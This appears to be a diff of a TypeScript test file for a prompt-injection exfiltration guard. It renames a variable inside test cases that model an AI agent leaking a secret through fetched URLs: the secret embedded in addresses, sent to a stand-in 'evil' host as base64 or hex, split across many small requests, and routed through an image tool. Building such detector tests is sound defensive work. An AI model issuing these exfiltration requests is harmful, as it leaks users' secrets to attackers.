@@ -9,7 +9,7 @@ import {
   injection,
   type InjectionAttempt,
   type InjectionSource,
-  listed,
+  listedAddresses,
   type Round,
   secret,
   typedAddress,
@@ -127,7 +127,7 @@ const addresses: Readonly<Record<string, string>> = {
   'a segment that goes up': `https://docs.example/${secret}/../start/${secret}`,
   'a semicolon after a typed address': `${typedAddress};${secret}`,
   'the port of a typed address': 'https://docs.example:8443/start',
-  'a listed address with a query': `${listed[1]}?d=${secret}`,
+  'a listed address with a query': `${listedAddresses[1]}?d=${secret}`,
   'a matching path on another host': `${evil}/start`,
   base64: `${evil}/${base64}`,
   'hexadecimal digits': `${evil}/${hex}`,
@@ -163,11 +163,11 @@ const calls: Readonly<Record<string, InjectionAttempt>> = {
     rounds: [fetches(...(secret.match(/.{3}/g) ?? []).map((piece) => `${evil}/${piece}`))],
   },
   'a character per call': { rounds: alone(...secret.split('').map((each) => `${evil}/${each}`)) },
-  'many small requests to listed addresses': { rounds: alone(...codes.map((code) => listed[code] ?? '')) },
-  'many small requests in one response': { rounds: [fetches(...codes.map((code) => listed[code] ?? ''))] },
+  'many small requests to listed addresses': { rounds: alone(...codes.map((code) => listedAddresses[code] ?? '')) },
+  'many small requests in one response': { rounds: [fetches(...codes.map((code) => listedAddresses[code] ?? ''))] },
   'many small requests by two tools': {
     rounds: codes.map((code, index) =>
-      index % 2 === 0 ? fetches(listed[code] ?? '') : call('peek_image', { image: listed[code] }),
+      index % 2 === 0 ? fetches(listedAddresses[code] ?? '') : call('peek_image', { image: listedAddresses[code] }),
     ),
   },
   'many small requests to addresses of another host': {
